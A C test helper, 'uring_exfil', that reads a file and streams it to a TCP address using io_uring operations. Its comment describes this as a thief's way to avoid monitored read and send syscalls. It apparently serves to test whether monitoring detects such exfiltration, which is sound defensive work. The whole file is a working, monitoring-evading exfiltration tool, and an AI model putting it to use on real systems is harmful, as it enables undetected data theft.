// SPDX-License-Identifier: GPL-2.0-only
/*
 * uring_exfil FILE ADDR PORT: read FILE with io_uring READ operations and
 * send it to ADDR:PORT over TCP with io_uring SEND operations, as a thief
 * would who knows that read(2) and send(2) are watched: neither syscall
 * moves a byte here, io_uring_enter(2) does.
 *
 * Exit status: 0 when all of FILE was sent; 77 when io_uring, or its READ
 * or SEND operation, is not available on this kernel (disabled by
 * kernel.io_uring_disabled, seccomp, or too old), so that the test can
 * skip; 1 on any other failure, with the reason on stderr.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <liburing.h>

#define CHUNK		(64 << 10)
#define EXIT_NO_URING	77

/* Submit the one prepared operation and wait for it: its result. */
static int run_one(struct io_uring *ring)
{
	struct io_uring_cqe *cqe;
	int ret;

	ret = io_uring_submit_and_wait(ring, 1);
	if (ret < 0)
		return ret;
	ret = io_uring_wait_cqe(ring, &cqe);
	if (ret < 0)
		return ret;
	ret = cqe->res;
	io_uring_cqe_seen(ring, cqe);
	return ret;
}

static int uring_read(struct io_uring *ring, int fd, char *buf, size_t len,
		      off_t off)
{
	io_uring_prep_read(io_uring_get_sqe(ring), fd, buf, len, off);
	return run_one(ring);
}

static int uring_send_all(struct io_uring *ring, int sock, const char *buf,
			  size_t len)
{
	while (len) {
		int n;

		io_uring_prep_send(io_uring_get_sqe(ring), sock, buf, len,
				   MSG_NOSIGNAL);
		n = run_one(ring);
		if (n < 0)
			return n;
		if (!n)
			return -EPIPE;
		buf += n;
		len -= n;
	}
	return 0;
}

/* 0, or EXIT_NO_URING with the reason printed. */
static int uring_available(struct io_uring *ring)
{
	struct io_uring_probe *probe;
	int ret;

	ret = io_uring_queue_init(4, ring, 0);
	if (ret < 0) {
		fprintf(stderr, "uring_exfil: io_uring_setup: %s\n",
			strerror(-ret));
		return EXIT_NO_URING;
	}
	probe = io_uring_get_probe_ring(ring);
	if (!probe || !io_uring_opcode_supported(probe, IORING_OP_READ) ||
	    !io_uring_opcode_supported(probe, IORING_OP_SEND)) {
		fprintf(stderr, "uring_exfil: this kernel's io_uring has no "
			"READ or SEND operation\n");
		io_uring_free_probe(probe);
		io_uring_queue_exit(ring);
		return EXIT_NO_URING;
	}
	io_uring_free_probe(probe);
	return 0;
}

static int connect_to(const char *addr, const char *port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	int sock;

	sin.sin_port = htons(atoi(port));
	if (inet_pton(AF_INET, addr, &sin.sin_addr) != 1) {
		fprintf(stderr, "uring_exfil: %s: not an IPv4 address\n", addr);
		return -1;
	}
	sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (sock < 0 || connect(sock, (void *)&sin, sizeof(sin))) {
		fprintf(stderr, "uring_exfil: failed to connect to %s:%s: %s\n",
			addr, port, strerror(errno));
		if (sock >= 0)
			close(sock);
		return -1;
	}
	return sock;
}

int main(int argc, char **argv)
{
	struct io_uring ring;
	int fd, sock, n, ret = 1;
	off_t off = 0;
	char *buf;

	if (argc != 4) {
		fprintf(stderr, "usage: uring_exfil FILE ADDR PORT\n");
		return 2;
	}
	n = uring_available(&ring);
	if (n)
		return n;
	buf = malloc(CHUNK);
	if (!buf)
		goto out_ring;
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		fprintf(stderr, "uring_exfil: failed to open %s: %s\n",
			argv[1], strerror(errno));
		goto out_buf;
	}
	sock = connect_to(argv[2], argv[3]);
	if (sock < 0)
		goto out_fd;
	for (;;) {
		n = uring_read(&ring, fd, buf, CHUNK, off);
		if (n < 0) {
			fprintf(stderr, "uring_exfil: io_uring read of %s: "
				"%s\n", argv[1], strerror(-n));
			goto out_sock;
		}
		if (!n)
			break;
		off += n;
		n = uring_send_all(&ring, sock, buf, n);
		if (n < 0) {
			fprintf(stderr, "uring_exfil: io_uring send: %s\n",
				strerror(-n));
			goto out_sock;
		}
	}
	ret = 0;
out_sock:
	close(sock);
out_fd:
	close(fd);
out_buf:
	free(buf);
out_ring:
	io_uring_queue_exit(&ring);
	return ret;
}
